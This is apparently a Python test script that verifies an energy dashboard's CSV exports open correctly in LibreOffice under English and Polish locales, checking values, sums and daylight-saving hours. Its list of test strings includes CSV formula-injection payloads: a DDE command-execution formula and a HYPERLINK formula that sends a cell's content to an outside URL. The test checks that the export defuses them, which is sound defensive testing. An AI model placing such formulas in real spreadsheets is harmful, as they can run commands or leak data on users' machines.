#!/usr/bin/env python3
"""Exports in a spreadsheet: LibreOffice, in English and in Polish, finds numbers, dates and texts where they belong, no
formula, nothing where nothing is known, and adds up to what the lines of JSON and /api/v1/energy say."""

import json
import os
import random
import shutil
import sqlite3
import subprocess
import sys
import xml.etree.ElementTree as ET
from datetime import date, datetime, timedelta
from decimal import Decimal
from functools import partial

from lib import Tally, Workshop, arguments, finish, wait_for
from localtime import UTC, ZONE, created_at, naive_iso

WHATS = ("energy", "decisions", "prices", "days")
FIRST, LAST = date(2025, 10, 25), date(2026, 3, 30)
DAYS = [day + timedelta(days=step) for day in (date(2025, 10, 25), date(2026, 3, 28)) for step in range(3)]
ENGLISH, POLISH = 1033, 1045  # languages as LibreOffice numbers them
DATES = {"local_time", "local_start", "day"}
LETTERS = [
    "zażółć gęślą jaźń 🔋",
    'he said "no", twice; then "yes"',
    "two\nlines",
    "two\r\nlines",
    "tab\there",
    "  spaces  around  ",
    "<b>&amp; €",
    "'quoted'",
    "a;b;c",
    ",",
    '"',
]
FORMULAS = [
    "=1+1",
    "+48 123 456 789",
    "-5",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1;"x")',
    "=1+1; and more",
    "\t=1+1",
    "\n=1+1",
    "\r=1+1",
    "＝1+1",
    "-",
]
# Taken for a number or a date by one setting or another, where quoted cells are not kept as text.
NUMBERS = ["7", "1.12", "1,12", "1e5", "13:00", "2026-01-01", "50%", "1/2", " 3", "$5", "1.2.2026", "00012"]
ALL = LETTERS + FORMULAS + NUMBERS + [" =1+1", "Price 0.5 is below 0.7"]
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
VALUES = ("value", "date-value", "time-value", "boolean-value")
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def energy_rows(rng):
    """Five-minute rows with a hole, cells that are null, and negative powers; a counter falls back once."""
    meters = {"import": 1000.0, "export": 250.5, "house": 4000.25}
    for day in DAYS:
        start = datetime(day.year, day.month, day.day, tzinfo=ZONE).astimezone(UTC)
        following = day + timedelta(days=1)
        end = datetime(following.year, following.month, following.day, tzinfo=ZONE).astimezone(UTC)
        if day == date(2026, 3, 30):
            meters["export"] = 0.0
        for index in range((end - start) // timedelta(minutes=5)):
            if day in (date(2025, 10, 27), date(2026, 3, 28)) and 100 <= index < 130:
                continue
            meters = {name: round(value + rng.randrange(80) / 1000, 3) for name, value in meters.items()}
            at = start + timedelta(minutes=5, microseconds=7) * index  # no two alike, also in the hour that comes twice
            row = [
                round(rng.uniform(5, 100), 1),
                rng.choice((0, rng.randrange(9000))),
                rng.randrange(-6000, 6000),
                rng.randrange(4000),
                rng.randrange(-5000, 5000),
                round(rng.uniform(-3, 40), 1) + 0.1 + 0.2,
                round(rng.uniform(300, 420), 2),
                round(rng.uniform(-12, 12), 2),
                round(rng.uniform(225, 250), 1),
                round(rng.uniform(49.9, 50.1), 3),
                *meters.values(),
                round(index * 0.01, 2),
                rng.choice((None, -0.05, 0.7312, 1.12)),
                rng.choice(("T1", "T2")),
            ]
            kept = [value if rng.random() > 0.03 else None for value in row]
            yield (naive_iso(at), *kept, created_at(at))


ENERGY = (
    "INSERT INTO energy_data(timestamp, battery_soc, pv_power, grid_power, house_consumption, battery_power,"
    " battery_temperature, battery_voltage, battery_current, grid_voltage, grid_frequency, grid_import_total_kwh,"
    " grid_export_total_kwh, house_consumption_total_kwh, pv_generation_total_kwh, price_pln, tariff_zone, created_at)"
    f" VALUES ({', '.join('?' * 18)})"
)
DECISION = (
    "INSERT INTO coordinator_decisions(timestamp, decision_type, action, reason, parameters, source_module, created_at)"
    " VALUES (?, ?, ?, ?, ?, ?, ?)"
)


def decisions(rng):
    """Every text as a reason, some also elsewhere; numbers of all sizes; some decisions know nothing."""
    for index in range(len(ALL) * 4):
        day = DAYS[index % len(DAYS)]
        midnight = datetime(day.year, day.month, day.day, tzinfo=ZONE).astimezone(UTC)
        at = midnight + timedelta(minutes=7 * index, microseconds=287_991 * (index % 2))
        text, other = ALL[index % len(ALL)], ALL[(index * 5 + 3) % len(ALL)]
        parameters = {
            "confidence": rng.choice((0.5, 0.875, None)),
            "current_price": rng.choice((-0.25, 0.7312, 1.12)),
            "cheapest_price": rng.choice((1e-06, 0.1)),
            "cheapest_hour": rng.choice((13, "13:00", other)),
            "energy_kwh": rng.choice((3, 2.345, None)),
            "estimated_cost_pln": rng.choice((-1.5, 2.01)),
            "estimated_savings_pln": rng.choice((0.33, None)),
            "should_charge": rng.choice((True, False, None)),
            "tariff_zone": other,
            "note": text,
        }
        action = ("charge", "wait", "battery_selling")[index % 3]
        said = json.dumps(parameters, ensure_ascii=False) if index % 7 else "{}"
        yield (naive_iso(at), other, action, text, said, rng.choice((None, text)), created_at(at))


def make(shop, api):
    """The site, with the prices of its days in the memory, and its server."""
    root, rng = shop.site("office", days=2, pse_url=api.url), random.Random(8)
    with sqlite3.connect(root / "data" / "goodwe_energy.db") as connection:
        connection.execute("DELETE FROM energy_data")
        connection.execute("DELETE FROM coordinator_decisions")
        connection.executemany(ENERGY, energy_rows(rng))
        connection.executemany(DECISION, decisions(rng))
    run(shop, root, "prices", "backfill", "--pause", "1")
    return root, shop.serve(root)


def run(shop, root, *arguments_given):
    """One command of Wattboard; its standard output."""
    config = root / "config" / "master_coordinator_config.yaml"
    command = [shop.binary, *arguments_given, "--config", config]
    return subprocess.run(command, check=True, capture_output=True, timeout=120).stdout


class Office:
    """LibreOffice without a window, with a profile of its own."""

    def __init__(self, folder, locale=None):
        self.folder, self.profile = folder, folder / f"profile-{locale}"
        if locale:
            (self.profile / "user").mkdir(parents=True)
            (self.profile / "user" / "registrymodifications.xcu").write_text(
                '<?xml version="1.0" encoding="UTF-8"?>\n<oor:items xmlns:oor="http://openoffice.org/2001/registry">\n'
                '<item oor:path="/org.openoffice.Setup/L10N"><prop oor:name="ooSetupSystemLocale" oor:op="fuse">'
                f"<value>{locale}</value></prop></item>\n</oor:items>\n"
            )

    def convert(self, file, options=None):
        """The file as a spreadsheet of flat XML, parsed."""
        out = self.folder / "converted"
        shutil.rmtree(out, ignore_errors=True)
        command = ["soffice", "--headless", f"-env:UserInstallation={self.profile.as_uri()}", "--convert-to", "fods"]
        if options:
            command.append(f"--infilter=Text - txt - csv (StarCalc):{options}")
        environment = {**os.environ, "HOME": str(self.folder), "LC_ALL": "C.UTF-8"}
        done = subprocess.run(
            [*command, "--outdir", out, file], capture_output=True, text=True, timeout=180, env=environment
        )
        found = out / file.with_suffix(".fods").name
        if not found.exists():
            raise RuntimeError(f"no spreadsheet of {file}: {done.stdout} {done.stderr}")
        for _, (prefix, name) in ET.iterparse(found, events=("start-ns",)):
            ET.register_namespace(prefix, name)  # LibreOffice knows a flat file by its prefixes
        return ET.parse(found)


def options(separator, language, quoted_are_text=False, detect=False, formulas=True):
    """The tokens of LibreOffice's import: separator, quote, UTF-8, first line, columns, language and switches."""
    said = [str(flag).lower() for flag in (quoted_are_text, detect, False, False, False)]
    begin = [str(ord(separator)), "34", "76", "1", "", str(language or "")]
    return ",".join([*begin, *said, "0", "false", str(formulas).lower()])


def words(paragraph):
    """The text of a paragraph; runs of spaces, tabs and ends of lines are elements."""
    found = [paragraph.text or ""]
    for child in paragraph:
        if child.tag == f"{TEXT}s":
            found.append(" " * int(child.get(f"{TEXT}c", "1")))
        elif child.tag in (f"{TEXT}tab", f"{TEXT}line-break"):
            found.append("\t" if child.tag == f"{TEXT}tab" else "\n")
        else:
            found.append(words(child))
        found.append(child.tail or "")
    return "".join(found)


def cells(tree):
    """Lines of (type, value); an empty cell is (None, None). A formula's type is `formula`."""
    lines = []
    for row in tree.getroot().iter(f"{TABLE}table-row"):
        line = []
        for cell in row:
            kind = cell.get(f"{OFFICE}value-type")
            value = next((cell.get(OFFICE + name) for name in VALUES if OFFICE + name in cell.attrib), None)
            if kind == "string":
                value = "\n".join(words(paragraph) for paragraph in cell.findall(f"{TEXT}p"))
            if cell.get(f"{TABLE}formula") is not None:
                kind = "formula"
            line += [(kind, value)] * int(cell.get(f"{TABLE}number-columns-repeated", "1"))
        while line and line[-1] == (None, None):
            line.pop()
        lines += [line] * (int(row.get(f"{TABLE}number-rows-repeated", "1")) if line else 1)
    while lines and not lines[-1]:
        lines.pop()
    return lines


def fits(name, cell, value, lax):
    """Whether a cell is what the line of JSON says. `lax`: what is quoted may have become a number or a date."""
    kind, found = cell
    if value is None:
        return cell == (None, None)
    if isinstance(value, bool):
        return cell == ("string", str(value).lower()) or lax and cell == ("boolean", str(value).lower())
    if isinstance(value, (int, Decimal)):
        return kind == "float" and float(found) == float(f"{value:.15g}")
    if name in DATES:
        return kind == "date" and found in (value, value.removesuffix("T00:00:00"))
    if isinstance(value, dict):
        return kind == "string" and json.loads(found, parse_float=Decimal) == value
    led = f"'{value}" if value[:1] in tuple("=+-@\t\r\n＝＋－＠") else value
    led = led.replace("\r\n", "\n").replace("\r", "\n")  # a spreadsheet has one kind of end of a line
    return cell == ("string", led) or lax and not value[:1].isalpha() and led == value and kind != "formula"


def compare(tally, label, lines, rows, lax=False):
    """Every cell against the lines of JSON."""
    header = [cell[1] for cell in lines[0]]
    tally.check(header == list(rows[0]), f"{label}: the columns are those of the lines of JSON", header)
    wrong = []
    for number, (line, row) in enumerate(zip(lines[1:], rows), 2):
        line = line + [(None, None)] * (len(header) - len(line))
        pairs = zip(header, line, row.values())
        wrong += [(number, name, cell, value) for name, cell, value in pairs if not fits(name, cell, value, lax)]
        wrong += [(number, "too long")] if len(line) > len(header) else []
    tally.check(
        not wrong and len(lines) == len(rows) + 1,
        f"{label}: {len(rows)} lines, {len(rows) * len(header)} cells of their types and values, no formula",
        f"{len(lines) - 1} lines, {len(wrong)} wrong: {wrong[:4]}",
    )


def numeric(rows):
    """The columns that have numbers and nothing else."""
    plain = lambda value: isinstance(value, (int, Decimal)) and not isinstance(value, bool)  # noqa: E731
    found = []
    for name in rows[0]:
        values = [row[name] for row in rows if row[name] is not None]
        if values and all(plain(value) for value in values):
            found.append(name)
    return found


def office_sums(office, tree, count, columns):
    """LibreOffice's own SUM of these columns (1 is the first), as text."""
    table = tree.getroot().find(f".//{TABLE}table")
    for empty in [row for row in table.findall(f"{TABLE}table-row") if row.get(f"{TABLE}number-rows-repeated")]:
        table.remove(empty)
    for column in columns:
        letters = (chr(64 + (column - 1) // 26) if column > 26 else "") + chr(65 + (column - 1) % 26)
        formula = f"of:=SUM([.{letters}2:.{letters}{count + 1}])"
        row = ET.SubElement(table, f"{TABLE}table-row")
        ET.SubElement(row, f"{TABLE}table-cell", {f"{TABLE}number-columns-repeated": "100"})  # where no column is of dates
        ET.SubElement(row, f"{TABLE}table-cell", {f"{TABLE}formula": formula})
    file = office.folder / "sums.fods"
    text = ET.tostring(tree.getroot(), encoding="utf-8", xml_declaration=True).decode()
    of = 'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2"'
    file.write_text(text.replace("<office:document ", f"<office:document {of} ", 1), encoding="utf-8")
    return [line[-1][1] for line in cells(office.convert(file))[-len(columns) :]]


def check_sums(tally, label, office, tree, rows):
    """Sums of the cells, and LibreOffice's own, against the lines of JSON."""
    lines, names, columns = cells(tree), list(rows[0]), numeric(rows)
    wrong, places = [], [names.index(name) + 1 for name in columns]
    own = office_sums(office, tree, len(rows), places)
    for name, place, found in zip(columns, places, own):
        expected = sum(Decimal(row[name]) for row in rows if row[name] is not None)
        line_cells = [line[place - 1] for line in lines[1:] if len(line) >= place]
        added = sum(Decimal(value) for kind, value in line_cells if kind == "float")
        # LibreOffice keeps 15 digits of a number; the temperatures have more.
        same = added == expected or name == "battery_temperature_c" and abs(added - expected) < Decimal("1e-9")
        if not same or abs(Decimal(found) - expected) > Decimal("1e-9") * max(1, abs(expected)):
            wrong.append((name, str(expected), str(added), found))
    tally.check(not wrong and len(columns) > 6, f"{label}: {len(columns)} columns add up, by SUM as well", wrong[:3])
    return lines, names


def check_energy(tally, label, server, lines, names):
    """The closed days of the spreadsheet against /api/v1/energy of the same days."""
    _, answer = server.json(f"/api/v1/energy?from={FIRST}&to={LAST}&by=day")
    total, added = answer["total"], {}
    for line in lines[1:]:
        for name, (kind, value) in zip(names, line):
            if kind == "float":
                added[name] = added.get(name, Decimal(0)) + Decimal(value)
    flows = {"pv": "pv", "import": "import", "export": "export", "house": "consumption"}
    flows |= {"charge": "battery_charge", "discharge": "battery_discharge"}
    expected = {f"{name}_kwh": total["energy"][flow]["kwh"] for name, flow in flows.items()}
    expected |= {name: total["energy"][name] for name in ("import_t1_kwh", "import_t2_kwh")}
    expected |= {name: total["completeness"][name] for name in ("rows",)}
    buckets = {bucket["bucket"]: bucket for bucket in answer["buckets"]}
    for name, money in (("cost", "import_cost_pln"), ("income", "export_income_pln")):
        place = names.index(f"{name}_pln")
        priced = [line[0][1] for line in lines[1:] if len(line) > place and line[place][0] == "float"]
        if priced:
            expected[f"{name}_pln"] = sum(buckets[day]["money"][money] for day in priced)
        unpriced = "import_unpriced_kwh" if name == "cost" else "export_unpriced_kwh"
        expected[f"{name}_unpriced_kwh"] = sum(buckets[line[0][1]]["money"][unpriced] or 0 for line in lines[1:])
    differ = {name: (str(value), str(added.get(name))) for name, value in expected.items() if added.get(name) != value}
    shown = ", ".join(f"{name} {added.get(name)}" for name in ("import_kwh", "export_kwh", "cost_pln", "income_pln"))
    tally.check(not differ, f"{label}: {len(expected)} totals are those of /api/v1/energy: {shown}", differ)
    tally.check("cost_pln" in expected and "income_pln" in expected, f"{label}: there is money to compare", expected)


def check_kinds(tally, exported):
    """What was compared is worth it: something negative and something unknown in each, money and text of all kinds."""
    for what, rows in exported.items():
        values = [value for row in rows for value in row.values()]
        negative = sum(isinstance(value, (int, Decimal)) and value < 0 for value in values)
        unknown = sum(value is None for value in values)
        tally.check(negative and unknown, f"{what}: {negative} numbers are negative, {unknown} cells unknown")
    reasons = {row["reason"] for row in exported["decisions"]}
    tally.check(reasons == set(ALL), "every text was a reason", set(ALL) ^ reasons)


def check_dst(tally, exported):
    """Each hour of the days of the time change, as often as it was."""
    for day, hour, count in ((date(2025, 10, 26), 2, 24), (date(2026, 3, 29), 2, 0), (date(2026, 3, 29), 3, 12)):
        times = [row["time"] for row in exported["energy"] if row["local_time"].startswith(f"{day}T{hour:02}")]
        tally.check(len(times) == count == len(set(times)), f"{day} has {count} rows in hour {hour}", len(times))


def load(text):
    return [json.loads(line, parse_float=Decimal) for line in text.decode().splitlines()]


def main():
    given = arguments(__doc__.strip())
    if shutil.which("soffice") is None:
        print("this proof needs LibreOffice Calc (apt install --no-install-recommends libreoffice-calc)")
        sys.exit(1)
    tally = Tally()
    with Workshop(given.bin, given.keep) as shop:
        api = shop.price_api("--seed", "5")
        root, server = make(shop, api)
        export = lambda what, form: run(shop, root, "export", "--what", what, "--format", form)  # noqa: E731
        summed = wait_for(lambda: len(load(export("days", "jsonl"))) == len(DAYS), 120, every=1)
        tally.check(summed, f"{len(DAYS)} days are summed")
        english, polish = Office(shop.folder), Office(shop.folder, "pl-PL")
        exported = {}
        for what in WHATS:
            texts = {form: export(what, form) for form in ("csv", "csv-pl", "jsonl")}
            for form, text in texts.items():
                status, sent = server.get(f"/api/v1/export?what={what}&format={form}", timeout=60)
                tally.check(status == 200 and sent == text, f"{what}: /api/v1/export sends the same {form}", status)
            rows = exported[what] = load(texts["jsonl"])
            file, local = shop.folder / f"{what}.csv", shop.folder / f"{what}-pl.csv"
            file.write_bytes(texts["csv"])
            local.write_bytes(texts["csv-pl"])
            check = partial(compare, tally)
            tree = english.convert(file, options(",", ENGLISH, quoted_are_text=True))
            check(f"{what}, csv in English, quoted cells as text", cells(tree), rows)
            lines, names = check_sums(tally, what, english, tree, rows)
            if what == "days":
                check_energy(tally, what, server, lines, names)
            check(f"{what}, csv in English", cells(english.convert(file, options(",", ENGLISH))), rows, lax=True)
            found = cells(english.convert(file, options(",", ENGLISH, detect=True, formulas=False)))
            check(f"{what}, csv in English, special numbers detected, no formulas", found, rows, lax=True)
            tree = polish.convert(local, options(";", POLISH, quoted_are_text=True))
            check(f"{what}, csv-pl in Polish, quoted cells as text", cells(tree), rows)
            check_sums(tally, f"{what}, csv-pl", polish, tree, rows)
            tree = polish.convert(local, options(";", None))
            check(f"{what}, csv-pl where everything is Polish", cells(tree), rows, lax=True)
            tree = polish.convert(local, options(";", None, detect=True))
            check(f"{what}, csv-pl where everything is Polish, special numbers detected", cells(tree), rows, lax=True)
        check_kinds(tally, exported)
        check_dst(tally, exported)
        # What docs/export.md warns of.
        for detect, expected in ((False, ("string", "1.12")), (True, ("date", f"{datetime.now(ZONE).year}-12-01"))):
            lines = cells(polish.convert(shop.folder / "energy.csv", options(",", POLISH, detect=detect)))
            place = [cell[1] for cell in lines[0]].index("price_pln_kwh")
            pairs = zip(lines[1:], exported["energy"])
            kinds = {line[place] for line, row in pairs if row["price_pln_kwh"] == Decimal("1.12")}
            tally.check(kinds == {expected}, f"csv in Polish: 1.12 is {expected}, as the document says", kinds)
    finish(tally)


if __name__ == "__main__":
    main()
